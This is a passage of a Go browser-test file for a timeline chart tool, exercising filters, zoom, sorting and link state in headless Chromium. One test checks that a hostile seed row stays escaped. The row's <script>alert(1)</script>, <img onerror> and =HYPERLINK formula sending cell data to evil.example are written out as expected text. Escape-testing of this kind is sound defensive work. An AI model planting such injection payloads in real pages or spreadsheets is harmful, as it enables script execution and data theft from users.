package chart_test

// Tests that open the chart in headless Chromium (Debian's chromium package;
// .ci/run installs it) and drive it as a reader does, with clicks, the
// wheel, drags and typing, over the DevTools protocol (internal/browser).
// Without a Chromium they skip, unless TARIKH_REQUIRE_CHROMIUM is set, as CI
// sets it, when they fail. The news-day tests need ../shared (SaudiNewsNet).
//
//	go test ./timeline/chart -run Browser -v
//	go test ./timeline/chart -run TestChartPerf -chartperf -v     timings, 1,000 and 20,000 events
//	go test ./timeline/chart -run TestChartPerf -chartperf -chartperf-page /tmp/corpus.html -v
//	go test ./timeline/chart -run TestScreenshots -screenshots ../../docs

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/tarikh/tarikh/internal/browser"
	"github.com/tarikh/tarikh/internal/cli"
	"github.com/tarikh/tarikh/internal/testshared"
	"github.com/tarikh/tarikh/timeline"
	"github.com/tarikh/tarikh/timeline/chart"
)

var (
	screenshots     = flag.String("screenshots", "", "TestScreenshots writes the docs' pictures of the chart into `DIR`")
	chartPerf       = flag.Bool("chartperf", false, "TestChartPerf times the chart on 1,000 and 20,000 events (a day of SaudiNewsNet, 20,000 made-up events)")
	chartPerfCorpus = flag.Bool("chartperf-corpus", false, "TestChartPerf also charts SaudiNewsNet, every day but the held-out ones (a minute of tarikh before the timing)")
	chartPerfPage   = flag.String("chartperf-page", "", "TestChartPerf also times the chart `FILE` already written (say, tarikh chart over the whole corpus)")
)

// session is one Chromium for a test.
type session struct {
	t         *testing.T
	b         *browser.Browser
	ctx       context.Context
	downloads string
}

func launch(t *testing.T) *session {
	t.Helper()
	bin, err := browser.Find()
	if err != nil {
		if os.Getenv("TARIKH_REQUIRE_CHROMIUM") != "" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
	b, err := browser.Launch(bin, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	s := &session{t: t, b: b, ctx: ctx, downloads: t.TempDir()}
	t.Cleanup(func() {
		for _, e := range b.Errors() {
			t.Errorf("script error in the page: %s", e)
		}
		cancel()
		b.Close()
	})
	return s
}

// ready: the first render is done and the late data (evidence, sources,
// aliases) is read.
const ready = `document.getElementById('tk-app') && document.getElementById('tk-app').hasAttribute('data-render-ms') && document.getElementById('tk-app').hasAttribute('data-late-ms')`

// open loads the page at path (#fragment) in a width×height tab.
func (s *session) open(path, fragment string, width, height int) *browser.Page {
	s.t.Helper()
	p, err := s.b.NewPage(s.ctx, width, height, s.downloads)
	if err != nil {
		s.t.Fatal(err)
	}
	u := (&url.URL{Scheme: "file", Path: path}).String()
	if fragment != "" {
		u += "#" + fragment // as a link carries it: escaped
	}
	if err := p.Navigate(s.ctx, u, ready); err != nil {
		s.t.Fatal(err)
	}
	return p
}

func (s *session) eval(p *browser.Page, js string, out any) {
	s.t.Helper()
	if err := p.Eval(s.ctx, js, out); err != nil {
		s.t.Fatal(err)
	}
}

// settle waits two frames: the render a change scheduled has run.
func (s *session) settle(p *browser.Page) {
	s.t.Helper()
	s.eval(p, `new Promise(function(r){requestAnimationFrame(function(){requestAnimationFrame(function(){setTimeout(r,0)})});setTimeout(r,3000)})`, nil)
}

func (s *session) attr(p *browser.Page, name string) string {
	s.t.Helper()
	var v string
	s.eval(p, fmt.Sprintf(`document.getElementById('tk-app').getAttribute(%q)||''`, name), &v)
	return v
}

func (s *session) num(p *browser.Page, name string) float64 {
	s.t.Helper()
	f, err := strconv.ParseFloat(s.attr(p, name), 64)
	if err != nil {
		s.t.Fatalf("#tk-app %s: %v", name, err)
	}
	return f
}

func (s *session) click(p *browser.Page, selector string) {
	s.t.Helper()
	if err := p.Click(s.ctx, selector); err != nil {
		s.t.Fatal(err)
	}
	s.settle(p)
}

func (s *session) text(p *browser.Page, selector string) string {
	s.t.Helper()
	var v string
	s.eval(p, fmt.Sprintf(`(document.querySelector(%q)||{}).textContent||''`, selector), &v)
	return v
}

func (s *session) html(p *browser.Page) string {
	s.t.Helper()
	var v string
	s.eval(p, `document.documentElement.outerHTML`, &v)
	return v
}

// typeFilter replaces the filter's text with q, as typed.
func (s *session) typeFilter(p *browser.Page, q string) {
	s.t.Helper()
	s.click(p, "#tk-filter")
	s.eval(p, `document.getElementById('tk-filter').select()`, nil)
	if q == "" {
		s.eval(p, `(function(f){f.value='';f.dispatchEvent(new Event('input'))})(document.getElementById('tk-filter'))`, nil)
	} else if err := p.Type(s.ctx, q); err != nil {
		s.t.Fatal(err)
	}
	// The filter waits 150 ms for the typing to stop.
	time.Sleep(250 * time.Millisecond)
	s.settle(p)
}

// shownCount reads "N of M events" off the count.
func (s *session) shownCount(p *browser.Page) (int, int) {
	s.t.Helper()
	m := regexp.MustCompile(`(\d+)\D+(\d+)`).FindStringSubmatch(s.text(p, "#tk-count"))
	if m == nil {
		s.t.Fatalf("count %q", s.text(p, "#tk-count"))
	}
	a, _ := strconv.Atoi(m[1])
	b, _ := strconv.Atoi(m[2])
	return a, b
}

// reachable returns the events a reader reaches from the current view by
// clicks: those drawn one by one in every lane (scrolling down the lanes),
// and those the "+N" groups list. It clicks up to 20 groups (the first and
// the largest) and checks that each lists exactly the events it holds;
// clicking each of hundreds over the protocol would take minutes.
func (s *session) reachable(p *browser.Page) map[int]bool {
	s.t.Helper()
	got := map[int]bool{}
	var groups []string
	seen := map[string]float64{} // group → a scroll position that shows it
	var height float64
	s.eval(p, `document.getElementById('tk-scroll').scrollHeight`, &height)
	for top := 0.0; ; top += 300 {
		s.eval(p, fmt.Sprintf(`document.getElementById('tk-scroll').scrollTop=%f`, top), nil)
		s.settle(p)
		var ids []int
		s.eval(p, `Array.prototype.map.call(document.querySelectorAll('.tk-track [data-event-id]'),function(n){return +n.getAttribute('data-event-id')})`, &ids)
		for _, id := range ids {
			got[id] = true
		}
		var pills []string
		s.eval(p, `Array.prototype.map.call(document.querySelectorAll('.tk-track [data-event-ids]'),function(n){return n.getAttribute('data-event-ids')})`, &pills)
		for _, g := range pills {
			if _, ok := seen[g]; !ok {
				seen[g] = top
				groups = append(groups, g)
			}
		}
		if top+300 >= height {
			break
		}
	}
	click := map[string]bool{}
	for i, g := range groups {
		if i < 12 {
			click[g] = true
		}
	}
	bySize := slices.Clone(groups)
	slices.SortFunc(bySize, func(a, b string) int { return len(b) - len(a) })
	for _, g := range bySize[:min(8, len(bySize))] {
		click[g] = true
	}
	for _, g := range groups {
		want := strings.Fields(g)
		for _, id := range want {
			n, _ := strconv.Atoi(id)
			got[n] = true
		}
		if !click[g] {
			continue
		}
		s.eval(p, fmt.Sprintf(`document.getElementById('tk-scroll').scrollTop=%f`, seen[g]), nil)
		s.settle(p)
		if err := p.Click(s.ctx, fmt.Sprintf(`.tk-track [data-event-ids=%q]`, g)); err != nil {
			s.t.Fatal(err)
		}
		s.settle(p)
		var listed []string
		s.eval(p, `Array.prototype.map.call(document.querySelectorAll('#tk-pop [data-pop-id]'),function(n){return n.getAttribute('data-pop-id')})`, &listed)
		slices.Sort(listed)
		slices.Sort(want)
		if !slices.Equal(listed, want) {
			s.t.Errorf("a +%d lists %d events: %v, want %v", len(want), len(listed), listed, want)
		}
		if err := p.Key(s.ctx, "Escape"); err != nil {
			s.t.Fatal(err)
		}
	}
	s.eval(p, `document.getElementById('tk-scroll').scrollTop=0`, nil)
	s.settle(p)
	return got
}

func writePage(t *testing.T, events []timeline.Event, opts chart.Options) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "timeline.html")
	var b bytes.Buffer
	if err := chart.Write(&b, events, opts); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestBrowserSeeds opens the seeds' chart and checks that every event is
// drawn, once in lanes by type, the lanes are there, and the hostile row's
// markup stays text: its details show it escaped, and neither its <script>
// nor its <img onerror> became an element.
func TestBrowserSeeds(t *testing.T) {
	s := launch(t)
	events := readSeeds(t)
	hostile := -1
	types := map[string]bool{}
	for i, e := range events {
		if strings.Contains(e.Text, "<script>") {
			hostile = i
		}
		types[e.Type] = true
	}
	if hostile < 0 {
		t.Fatal("../format/testdata/events.csv lost its hostile row")
	}
	lx, err := timeline.LoadLexicon("")
	if err != nil {
		t.Fatal(err)
	}
	label := func(lang string) func(string) string {
		return func(k string) string { return lx.TypeLabel(k, lang) }
	}
	tests := []struct {
		opts  chart.Options
		lanes int
		once  bool     // each event drawn exactly once (lanes by type)
		texts []string // in the page
	}{
		{chart.Options{TypeLabel: label("en")}, len(types), true, []string{"Timeline", "Event type", "Meeting (5)", "planned", "12 of 12 events"}},
		{chart.Options{Group: chart.ByPerson}, 7, false, []string{"Antony Blinken", "(no person)"}},
		{chart.Options{Lang: "ar", TypeLabel: label("ar")}, len(types), true, []string{`<html lang="ar" dir="rtl">`, "الخط الزمني للأحداث",
			"نوع الحدث", "لقاء (5)", "مخطط له", "12 من 12 حدثًا", "الدليل"}},
		{chart.Options{Lang: "ar", Group: chart.ByOrganization}, 6, false, []string{"المنظمة", "(بلا منظمة)"}},
	}
	for _, tt := range tests {
		t.Run(tt.opts.Lang+"-"+tt.opts.Group, func(t *testing.T) {
			s.t = t
			p := s.open(writePage(t, events, tt.opts), fmt.Sprintf("select=%d", hostile), 1400, 900)
			t.Logf("first render %s ms after navigation", s.attr(p, "data-render-ms"))
			out := s.html(p)
			var drawn []int
			s.eval(p, `Array.prototype.map.call(document.querySelectorAll('.tk-track [data-event-id]'),function(n){return +n.getAttribute('data-event-id')})`, &drawn)
			for i, e := range events {
				n := 0
				for _, id := range drawn {
					if id == i {
						n++
					}
				}
				if n == 0 || tt.once && n != 1 {
					t.Errorf("event %d (%s %s) drawn %d times", i, e.Date, e.Headline, n)
				}
			}
			if s.attr(p, "data-clustered") != "0" || s.attr(p, "data-drawn") != strconv.Itoa(len(events)) {
				t.Errorf("drawn %s, clustered %s; want the %d events drawn, none in a +N", s.attr(p, "data-drawn"), s.attr(p, "data-clustered"), len(events))
			}
			if got := s.attr(p, "data-lanes"); got != strconv.Itoa(tt.lanes) {
				t.Errorf("%s lanes, want %d", got, tt.lanes)
			}
			for _, want := range tt.texts {
				if !strings.Contains(out, want) {
					t.Errorf("page lacks %q", want)
				}
			}
			if n := strings.Count(strings.ToLower(out), "<script"); n != 3 {
				t.Errorf("the page has %d <script> elements, want 3 (early data, code, late data)", n)
			}
			// data-pwned="1" is what the <img onerror> would set on <body> had it run.
			for _, bad := range []string{`data-pwned="1"`, "<img", "<b>Hostile"} {
				if strings.Contains(out, bad) {
					t.Errorf("hostile markup became part of the page: found %q", bad)
				}
			}
			d := s.text(p, "#tk-details")
			for _, want := range []string{"<b>Hostile</b> article <script>alert(1)</script>",
				`=HYPERLINK("http://evil.example/?d="&A1,"click") <script>alert(1)</script><img src=x onerror=`, "hostile.txt"} {
				if !strings.Contains(d, want) {
					t.Errorf("details lack the hostile text as text %q:\n%s", want, d)
				}
			}
		})
	}
}

// TestBrowserFilter narrows the seeds' chart through the link's #q= (the
// link of an older page, #filter=, too), folding case, searching names,
// aliases, headlines and evidence; lanes left empty are hidden.
func TestBrowserFilter(t *testing.T) {
	s := launch(t)
	events := readSeeds(t)
	page := writePage(t, events, chart.Options{})
	kinds := map[string]bool{}
	for _, e := range events {
		kinds[e.Type] = true
	}
	types := len(kinds)
	tests := []struct {
		hash string
		want []string // headlines drawn
	}{
		{"q=washington", []string{"Biden to receive Kadhimi in Washington", "First meeting of the Higher Coordinating Committee",
			"Blinken meets Fuad Hussein in Washington", "Sudani to meet Biden at the White House"}},
		{"filter=Islamic", []string{"US-led coalition against Islamic State formed", "Attack near Moscow kills 139",
			"Blinken meets Fuad Hussein in Washington"}},
		{"q=" + url.QueryEscape("الكاظمي"), []string{"Biden to receive Kadhimi in Washington"}},
	}
	for _, tt := range tests {
		t.Run(tt.hash, func(t *testing.T) {
			s.t = t
			p := s.open(page, tt.hash, 1400, 900)
			var drawn []int
			s.eval(p, `Array.prototype.map.call(document.querySelectorAll('.tk-track [data-event-id]'),function(n){return +n.getAttribute('data-event-id')})`, &drawn)
			var got []string
			for i, e := range events {
				if slices.Contains(drawn, i) {
					got = append(got, e.Headline)
				}
			}
			if strings.Join(got, "|") != strings.Join(tt.want, "|") {
				t.Errorf("drawn %q, want %q", got, tt.want)
			}
			if n, m := s.shownCount(p); n != len(tt.want) || m != len(events) {
				t.Errorf("count says %d of %d", n, m)
			}
			var empty, marks int
			s.eval(p, `Array.prototype.filter.call(document.querySelectorAll('.tk-lane'),function(l){return l.querySelector('small').textContent==='0'}).length`, &empty)
			s.eval(p, `document.querySelectorAll('.tk-track mark').length`, &marks)
			if lanes := s.num(p, "data-lanes"); lanes >= float64(types) || empty > 0 {
				t.Errorf("%.0f lanes of %d types shown, %d of them empty: want the lanes the filter emptied hidden", lanes, types, empty)
			}
			if marks == 0 && !strings.Contains(tt.hash, "%") {
				t.Error("the matches are not highlighted in the labels")
			}
		})
	}
}

// newsDay writes the chart of SaudiNewsNet 2015-08-02 (a day that is not
// held out) with tarikh chart, and returns the page and its data.
func newsDay(t *testing.T, lang string) (string, chart.Page) {
	t.Helper()
	return chartOf(t, testshared.Path(t, "corpus", "saudinewsnet", "2015-08-02.jsonl"), lang)
}

// chartOf writes the chart of the articles at in with tarikh chart.
func chartOf(t *testing.T, in, lang string) (string, chart.Page) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "chart.html")
	var stderr bytes.Buffer
	code := cli.Run(context.Background(), []string{"chart", "-q", "--lang", lang, in, "-o", out},
		cli.IO{Stdin: strings.NewReader(""), Stdout: &bytes.Buffer{}, Stderr: &stderr})
	if code != 0 {
		t.Fatalf("tarikh chart: exit %d: %s", code, stderr.String())
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return out, pageData(t, string(b))
}

// fold is the page's norm, for the tests' own count of what a search finds.
func fold(s string) string {
	r := strings.NewReplacer("آ", "ا", "أ", "ا", "إ", "ا", "ٱ", "ا", "ى", "ي", "ة", "ه", "ـ", "")
	var b strings.Builder
	for _, c := range strings.ToLower(s) {
		if c >= 0x064B && c <= 0x065F || c == 0x0670 {
			continue
		}
		b.WriteRune(c)
	}
	return r.Replace(b.String())
}

// matches counts the events of p that a search for q keeps.
func matches(p chart.Page, q string) int {
	q = fold(q)
	n := 0
	for _, e := range p.Items {
		parts := []string{e.Headline, e.TimeText, e.Text}
		for _, l := range [][]int{e.People, e.Places, e.Orgs} {
			for _, i := range l {
				parts = append(parts, p.Entities[i].Name)
				parts = append(parts, p.Entities[i].Alt...)
			}
		}
		if strings.Contains(fold(strings.Join(parts, "\n")), q) {
			n++
		}
	}
	return n
}

// TestBrowserNewsDay opens a day of news (about a thousand events, dates
// from the twelfth century to 2050) and checks what issue 17 asks: the
// opening view lies on the articles' day with most events in it, every
// event is reachable by clicks, an Arabic name typed in the English chart
// filters, the list sorts, the view is in the link, zoom and pan have
// limits, the legend and the facets filter, and the view saves as a PNG.
func TestBrowserNewsDay(t *testing.T) {
	for _, lang := range []string{"en", "ar"} {
		t.Run(lang, func(t *testing.T) {
			s := launch(t)
			page, data := newsDay(t, lang)
			total := len(data.Items)
			p := s.open(page, "", 1400, 900)
			t.Logf("%d events; first render %s ms after navigation (script began %s ms, JSON decoded %s ms)",
				total, s.attr(p, "data-render-ms"), s.attr(p, "data-script-ms"), s.attr(p, "data-json-ms"))

			// The opening view.
			t0, t1 := s.attr(p, "data-t0"), s.attr(p, "data-t1")
			d0, _ := time.Parse(time.DateOnly, t0)
			d1, _ := time.Parse(time.DateOnly, t1)
			if t0 > "2015-08-02" || t1 < "2015-08-02" || d1.Sub(d0) > 92*24*time.Hour {
				t.Errorf("opening view %s..%s: want weeks, not years, around the articles' day 2015-08-02", t0, t1)
			}
			inView, drawn, clustered := s.num(p, "data-inview"), s.num(p, "data-drawn"), s.num(p, "data-clustered")
			if inView < 0.6*float64(total) {
				t.Errorf("opening view holds %.0f of %d events, want at least 60%%", inView, total)
			}
			if drawn+clustered != inView {
				t.Errorf("in view %.0f, drawn %.0f + in +N groups %.0f: want every event in view drawn or in a group", inView, drawn, clustered)
			}
			t.Logf("opening view %s..%s: %.0f of %d events in it (%.0f%%), %.0f drawn, %.0f in +N groups",
				t0, t1, inView, total, 100*inView/float64(total), drawn, clustered)
			if !strings.Contains(s.html(p), `class="tk-artlab"`) {
				t.Error("no marker at the articles' dates on the axis")
			}
			// Nothing cut by the view's edges: the axis' labels, and the
			// marks of days the edge cuts.
			var cut []string
			s.eval(p, `(function(){var a=document.getElementById('tk-axis').getBoundingClientRect(),out=[];
				document.querySelectorAll('#tk-axis .tk-tick').forEach(function(n){var r=n.getBoundingClientRect();
					if(n.textContent&&(r.left<a.left-1||r.right>a.right+1))out.push('axis label '+n.textContent)});
				document.querySelectorAll('.tk-track .tk-pt .tk-mark').forEach(function(m){var r=m.getBoundingClientRect(),tr=m.closest('.tk-track').getBoundingClientRect();
					if(r.left<tr.left-1||r.right>tr.right+1)out.push('mark of event '+m.parentNode.getAttribute('data-event-id'))});
				return out})()`, &cut)
			if len(cut) > 0 {
				t.Errorf("cut by the view's edge: %q", cut)
			}

			// Every event reachable by clicks: from the opening view, then after "Fit all".
			got := s.reachable(p)
			opening := len(got)
			s.click(p, "#tk-fit")
			for id := range s.reachable(p) {
				got[id] = true
			}
			for i := range total {
				if !got[i] {
					t.Errorf("event %d (%s %s) cannot be reached by clicks", i, data.Items[i].Date, data.Items[i].Headline)
				}
			}
			t.Logf("reachable by clicks: %d from the opening view, %d after Fit all", opening, len(got))

			// A group's event opens in the details.
			s.click(p, "#tk-main")
			if err := p.Click(s.ctx, ".tk-track [data-event-ids]"); err == nil {
				s.settle(p)
				var id int
				s.eval(p, `+document.querySelector('#tk-pop [data-pop-id]').getAttribute('data-pop-id')`, &id)
				s.click(p, "#tk-pop [data-pop-id]")
				// Names of the other script are isolated in the headline shown.
				if h := strings.NewReplacer("\u2068", "", "\u2069", "").Replace(s.text(p, "#tk-details h2")); h != data.Items[id].Headline {
					t.Errorf("clicked event %d of a group, details show %q, want %q", id, h, data.Items[id].Headline)
				}
				p.Key(s.ctx, "Escape")
			}

			// An Arabic name typed in the chart (English or Arabic) filters.
			for _, q := range []string{"داعش", "السيسي"} {
				want := matches(data, q)
				s.typeFilter(p, q)
				n, m := s.shownCount(p)
				if n != want || n == 0 || m != total {
					t.Errorf("%s: %d of %d events shown, want %d", q, n, m, want)
				}
				var marks, emptyShown int
				s.eval(p, `document.querySelectorAll('#tk-lanes mark, #tk-details mark').length`, &marks)
				s.eval(p, `Array.prototype.filter.call(document.querySelectorAll('.tk-lane'),function(l){return !l.hidden && l.querySelector('small').textContent==='0'}).length`, &emptyShown)
				if marks == 0 {
					t.Errorf("%s: no match highlighted", q)
				}
				if emptyShown > 0 || s.num(p, "data-lanes") >= float64(len(data.Types)) {
					t.Errorf("%s: %d empty lanes shown, %s lanes of %d types", q, emptyShown, s.attr(p, "data-lanes"), len(data.Types))
				}
				if s.num(p, "data-inview") < 0.6*float64(n) {
					t.Errorf("%s: the view did not refit: %s of %d matches in it", q, s.attr(p, "data-inview"), n)
				}
			}
			s.typeFilter(p, "")
			if n, _ := s.shownCount(p); n != total {
				t.Errorf("cleared filter shows %d of %d", n, total)
			}

			if lang == "ar" {
				return // the rest is the same code whatever the language; once is enough
			}

			// The list of the events in view sorts by date, type and headline.
			s.click(p, "#tk-listbtn")
			var rows int
			s.eval(p, `document.querySelectorAll('#tk-list tbody tr[data-list-id]').length`, &rows)
			if want := min(int(s.num(p, "data-inview")), 300); rows != want {
				t.Errorf("list has %d rows, want %d (the events in view, 300 at a time)", rows, want)
			}
			order := func(col int) string {
				var bad string
				s.eval(p, fmt.Sprintf(`(function(){var r=document.querySelectorAll('#tk-list tbody tr[data-list-id]'),out=[];
					function v(row){var c=row.cells[%d];return (c.querySelector('.tk-sortkey')||c).textContent}
					for(var i=1;i<r.length;i++){var a=v(r[i-1]),b=v(r[i]);out.push(a.localeCompare(b)<0?'<':a===b?'=':'>')}
					return out.join('')})()`, col), &bad)
				return bad
			}
			starts := func() []string {
				var ids []int
				s.eval(p, `Array.prototype.map.call(document.querySelectorAll('#tk-list tbody tr[data-list-id]'),function(r){return +r.getAttribute('data-list-id')})`, &ids)
				var out []string
				for _, id := range ids {
					out = append(out, data.Items[id].Start)
				}
				return out
			}
			if st := starts(); !slices.IsSorted(st) {
				t.Errorf("list by date is not in date order: %v", st)
			}
			s.click(p, `#tk-list th button[data-sort="type"]`)
			if o := order(1); strings.Contains(o, ">") {
				t.Errorf("list by type is not sorted by type: %s", o)
			}
			s.click(p, `#tk-list th button[data-sort="type"]`)
			if o := order(1); strings.Contains(o, "<") {
				t.Errorf("list by type, descending, is not: %s", o)
			}
			s.click(p, `#tk-list th button[data-sort="headline"]`)
			if o := order(2); strings.Contains(o, ">") {
				t.Errorf("list by headline is not sorted: %s", o)
			}
			s.click(p, `#tk-list th button[data-sort="date"]`)
			if st := starts(); !slices.IsSorted(st) {
				t.Errorf("list by date again is not in date order")
			}
			var sortAttr string
			s.eval(p, `document.querySelector('#tk-list th[aria-sort="ascending"] button').getAttribute('data-sort')`, &sortAttr)
			if sortAttr != "date" {
				t.Errorf("aria-sort marks %q", sortAttr)
			}
			// A row's headline selects its event, with the keyboard too.
			s.eval(p, `document.querySelector('#tk-list tbody .tk-link').focus()`, nil)
			p.Key(s.ctx, "Enter")
			s.settle(p)
			if s.text(p, "#tk-details h2") == "" {
				t.Error("Enter on a list row's headline did not show its details")
			}

			// Zoom with the wheel over the chart, within limits.
			r, err := p.Box(s.ctx, "#tk-axis")
			if err != nil {
				t.Fatal(err)
			}
			x, y := r.Center()
			before := s.attr(p, "data-t1")
			for range 6 {
				p.Wheel(s.ctx, x, y+200, -2000)
			}
			s.settle(p)
			a, _ := time.Parse(time.DateOnly, s.attr(p, "data-t0"))
			b, _ := time.Parse(time.DateOnly, s.attr(p, "data-t1"))
			if b.Sub(a) < 24*time.Hour || s.attr(p, "data-t1") == before {
				t.Errorf("zoomed in to %s..%s: want a change, and no less than two days", a, b)
			}
			// Zoom out as far as it goes, then pan far with drags: the view
			// stays over the data.
			for range 6 {
				p.Wheel(s.ctx, x, y+200, 3000)
			}
			for range 4 {
				if err := p.Drag(s.ctx, x+550, y+200, x-550, y+200); err != nil {
					t.Fatal(err)
				}
			}
			s.settle(p)
			last := data.Items[0].End
			for _, e := range data.Items {
				last = max(last, e.End)
			}
			if t0 := s.attr(p, "data-t0"); t0 > last {
				t.Errorf("panned to %s, past the last event (%s)", t0, last)
			}

			// The overview's brush: drag a new period on the strip (which
			// shows three times the main period), then move it.
			s.click(p, "#tk-main")
			ov, err := p.Box(s.ctx, "#tk-ov")
			if err != nil {
				t.Fatal(err)
			}
			days := func() (time.Time, time.Time) {
				a, _ := time.Parse(time.DateOnly, s.attr(p, "data-t0"))
				b, _ := time.Parse(time.DateOnly, s.attr(p, "data-t1"))
				return a, b
			}
			m0, m1 := days()
			if err := p.Drag(s.ctx, ov.X+ov.W*0.15, ov.Y+ov.H/2, ov.X+ov.W*0.85, ov.Y+ov.H/2); err != nil {
				t.Fatal(err)
			}
			s.settle(p)
			b0, b1 := days()
			if !b0.Before(m0) || !b1.After(m1) || b1.Sub(b0) > 4*m1.Sub(m0) {
				t.Errorf("brushed 15%%-85%% of the strip around the main period %s..%s: view %s..%s, want wider on both sides, within the strip's three times the main period",
					m0.Format(time.DateOnly), m1.Format(time.DateOnly), b0.Format(time.DateOnly), b1.Format(time.DateOnly))
			}
			if err := p.Drag(s.ctx, ov.X+ov.W*0.5, ov.Y+ov.H/2, ov.X+ov.W*0.6, ov.Y+ov.H/2); err != nil {
				t.Fatal(err)
			}
			s.settle(p)
			if c0, c1 := days(); !c0.After(b0) || (c1.Sub(c0)-b1.Sub(b0)).Abs() > 24*time.Hour {
				t.Errorf("moved the brush right: view %s..%s, was %s..%s: want later, as long",
					c0.Format(time.DateOnly), c1.Format(time.DateOnly), b0.Format(time.DateOnly), b1.Format(time.DateOnly))
			}

			// The legend toggles a type.
			s.click(p, "#tk-main")
			first := data.Types[0].Key
			s.click(p, fmt.Sprintf(`#tk-legend button[data-type=%q]`, first))
			n, _ := s.shownCount(p)
			typeCount := 0
			for _, e := range data.Items {
				if data.Types[e.Type].Key == first {
					typeCount++
				}
			}
			if n != total-typeCount {
				t.Errorf("legend: %s off leaves %d, want %d", first, n, total-typeCount)
			}
			s.click(p, fmt.Sprintf(`#tk-legend button[data-type=%q]`, first))

			// A facet: the first place.
			s.click(p, `.tk-facet[data-facet="l"] summary`)
			s.click(p, `.tk-facet[data-facet="l"] input`)
			if n, _ := s.shownCount(p); n == 0 || n >= total || s.text(p, "#tk-chips") == "" {
				t.Errorf("place facet: %d of %d shown, chips %q", n, total, s.text(p, "#tk-chips"))
			}

			// The whole view is in the link: another tab opens on the same.
			time.Sleep(400 * time.Millisecond) // the link follows changes after 250 ms
			var hash string
			s.eval(p, `location.hash.slice(1)`, &hash)
			q, _ := url.ParseQuery(hash)
			if q.Get("from") == "" || q.Get("places") == "" || q.Get("list") != "1" || q.Get("select") == "" {
				t.Errorf("link #%s lacks the range, the facet, the list or the selection", hash)
			}
			p2 := s.open(page, hash, 1400, 900)
			for _, a := range []string{"data-t0", "data-t1", "data-inview"} {
				if s.attr(p2, a) != s.attr(p, a) {
					t.Errorf("the link opens with %s %s, the page had %s", a, s.attr(p2, a), s.attr(p, a))
				}
			}
			if s.text(p2, "#tk-count") != s.text(p, "#tk-count") || s.text(p2, "#tk-details h2") != s.text(p, "#tk-details h2") {
				t.Errorf("the link opens with %q / %q, the page had %q / %q", s.text(p2, "#tk-count"), s.text(p2, "#tk-details h2"),
					s.text(p, "#tk-count"), s.text(p, "#tk-details h2"))
			}

			p2.Close(s.ctx)
			if err := p.Front(s.ctx); err != nil {
				t.Fatal(err)
			}

			// PNG export.
			s.click(p, "#tk-png")
			if err := p.Wait(s.ctx, `document.getElementById('tk-app').hasAttribute('data-png')`); err != nil {
				t.Fatal(err)
			}
			t.Logf("PNG: %s", s.attr(p, "data-png"))
			deadline := time.Now().Add(10 * time.Second)
			for {
				files, _ := filepath.Glob(filepath.Join(s.downloads, "timeline-*.png"))
				if len(files) > 0 {
					if b, err := os.ReadFile(files[0]); err != nil || !bytes.HasPrefix(b, []byte("\x89PNG")) {
						t.Errorf("download %s is not a PNG: %v", files[0], err)
					}
					break
				}
				if time.Now().After(deadline) {
					t.Error("no PNG downloaded")
					break
				}
				time.Sleep(100 * time.Millisecond)
			}
		})
	}
}

// TestBrowserMixedScripts opens the English chart of a news day on events
// whose headline begins with a name that has no English spelling
// ("عبد المنان, Mullah Mohammed Omar and Taliban meet in ..."), and checks
// on screen that the headline reads left to right: the Arabic name comes
// first, left of the English words after it. Without the page's direction
// and the name's isolation, the Arabic first letter turns the whole line
// right to left.
func TestBrowserMixedScripts(t *testing.T) {
	page, data := newsDay(t, "en")
	lead := regexp.MustCompile(`^([\p{Arabic} ]+), .*?\b(and|meet|play|in)\b`)
	var ids []int
	for i, e := range data.Items {
		if lead.MatchString(e.Headline) && len(ids) < 3 {
			ids = append(ids, i)
		}
	}
	if len(ids) == 0 {
		t.Skip("no headline on 2015-08-02 begins with an Arabic name any more")
	}
	s := launch(t)
	for _, id := range ids {
		m := lead.FindStringSubmatch(data.Items[id].Headline)
		t.Run(m[1], func(t *testing.T) {
			s.t = t
			p := s.open(page, fmt.Sprintf("select=%d", id), 1400, 900)
			// The x of the name's first letter and of the English word, in the details' heading.
			var xs []float64
			s.eval(p, fmt.Sprintf(`(function(){var h=document.querySelector('#tk-details h2'),t=h.firstChild,s=t.data;
				function x(i){var r=document.createRange();r.setStart(t,i);r.setEnd(t,i+1);return r.getBoundingClientRect().left}
				return [x(s.indexOf(%q)), x(s.indexOf(' %s ')+1), h.dir==='ltr'?1:0]})()`, m[1], m[2]), &xs)
			if len(xs) != 3 || xs[2] != 1 || xs[0] >= xs[1] {
				t.Errorf("%q: the Arabic name starts at x=%.0f, %q at x=%.0f, left to right %v: want the name first, on the left",
					data.Items[id].Headline, xs[0], m[2], xs[1], xs[2] == 1)
			}
		})
	}
}

// manyEvents makes n events spread like a day of a news archive: most on
// the days around the articles' date, some months and years back, a few
// planned; 60 people, 40 places, 8 types.
func manyEvents(n int) []timeline.Event {
	r := rand.New(rand.NewPCG(1, 2))
	types := []string{"meeting", "visit", "attack", "strike", "agreement", "statement", "match", "election"}
	dct := time.Date(2015, 6, 1, 0, 0, 0, 0, time.UTC)
	ents := func(prefix string, pool, k int) []timeline.Entity {
		var es []timeline.Entity
		for range r.IntN(k + 1) {
			j := r.IntN(pool)
			es = append(es, timeline.Entity{ID: fmt.Sprintf("%s%d", prefix, j), NameEn: fmt.Sprintf("%s %d", prefix, j),
				NameAr: fmt.Sprintf("اسم %d", j)})
		}
		return es
	}
	events := make([]timeline.Event, n)
	for i := range events {
		e := timeline.Event{Type: types[r.IntN(len(types))], Status: timeline.Happened,
			People: ents("Person", 60, 3), Places: ents("Place", 40, 2), Organizations: ents("Org", 20, 1),
			TimeText: "يوم الأحد", Text: "وقال المتحدث إن الاجتماع تناول تطورات الأوضاع في المنطقة.",
			Docs: []string{fmt.Sprintf("snn-%05d", i)}, Sources: 1}
		if r.IntN(8) == 0 {
			e.Status = timeline.Planned
		}
		switch k := r.IntN(10); {
		case k < 7: // a day within two weeks of the article
			d := dct.AddDate(0, 0, r.IntN(28)-14)
